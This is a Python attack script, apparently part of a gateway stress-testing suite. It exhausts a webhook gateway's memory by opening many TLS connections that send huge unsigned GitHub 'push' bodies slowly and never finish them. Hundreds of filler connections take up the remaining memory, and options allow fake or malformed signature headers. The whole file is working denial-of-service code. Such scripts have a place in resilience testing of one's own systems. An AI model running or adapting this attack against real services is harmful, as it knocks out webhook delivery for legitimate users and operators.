"""Large bodies that no secret signed and that never end: they hold the memory that honest deliveries need.

The attacker knows the default of `limits.memory`: large bodies stop just below it, and small ones fill the rest. What is refused because
memory is full comes again, so a gateway that frees a little of it gives it to the attacker.
"""

import select
import ssl
import time

import wire

HEADERS = {
    "none": [],
    "plausible": [f"X-Hub-Signature-256: {wire.PLAUSIBLE}"],
    "malformed": ["X-Hub-Signature-256: sha256=zz"],
    "doubled": [f"X-Hub-Signature-256: {wire.PLAUSIBLE}"] * 2,
}


def answered(connection, seconds):
    """Waits for an answer for up to this time. Returns its status, or None."""
    end = time.monotonic() + seconds
    while connection.pending() or select.select([connection], [], [], max(0.0, end - time.monotonic()))[0]:
        try:
            connection.settimeout(0)
            return int(wire.received(connection)[9:12])
        except ssl.SSLWantReadError:
            continue  # a session ticket
        finally:
            connection.settimeout(10)
    return None


def main():
    options = wire.parser(__doc__, connections=24, rate=100_000_000)
    options.add_argument("--mebibytes", type=float, default=10.3, help="size of each body")
    options.add_argument("--signature", choices=HEADERS, default="none")
    options.add_argument("--fillers", type=int, default=400, help="connections that hold 60 KB or 4 KB, once the large bodies are there")
    options.add_argument("--path", default="/github")
    options = options.parse_args()
    length = int(options.mebibytes * 1_048_576)
    lines = wire.github("push", "unsigned", None) + HEADERS[options.signature]
    counts, pace, connects = wire.Counts(), wire.Pace(options.rate), wire.Pace(200)
    until = wire.begin(options)

    def hold(connection, body, piece):
        """Sends the body but for its last bytes and waits for the answer, as long as the attack lasts."""
        connection.sendall(wire.head(options.path, body, *lines))
        for _ in range(0, body - piece, piece):
            if (status := answered(connection, 0)) is not None:
                return status
            pace.take(piece)
            connection.sendall(b"x" * piece)
            counts.add("body bytes sent", piece)
        counts.add("bodies held")
        return answered(connection, until - time.monotonic())

    def work(number):
        body, piece = (length, 65536) if number < options.connections else ((60_000, 4_000) if number % 2 else (4_100, 4_000))
        if number >= options.connections:
            time.sleep(options.connections * length / (options.rate or 200_000_000) + 0.5)
        while time.monotonic() < until:
            connects.take(1)
            try:
                with wire.tls(options.port, wire.source(number, options.addresses)) as connection:
                    counts.add(f"answered {hold(connection, body, piece)}")
            except OSError:
                counts.add("closed by the gateway")

    wire.many_threads(options.connections + options.fillers, work, until)
    wire.finish(**counts.values)


main()
